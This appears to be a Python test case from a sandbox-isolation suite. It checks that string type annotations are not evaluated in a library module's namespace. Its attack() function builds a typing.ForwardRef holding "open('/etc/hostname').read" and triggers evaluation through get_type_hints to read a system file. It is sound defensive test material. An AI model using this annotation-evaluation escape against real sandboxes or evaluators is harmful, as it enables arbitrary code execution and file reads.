"""No annotation of an app is evaluated among the variables of a library."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("typing",)


import typing


def attack():
    kind = type(typing.get_args(typing.List["int"])[0])
    reference = kind("open('/etc/hostname').read", module="json")

    class Holder:
        x: reference

    return "ESCAPED: " + typing.get_type_hints(Holder)["x"](20)
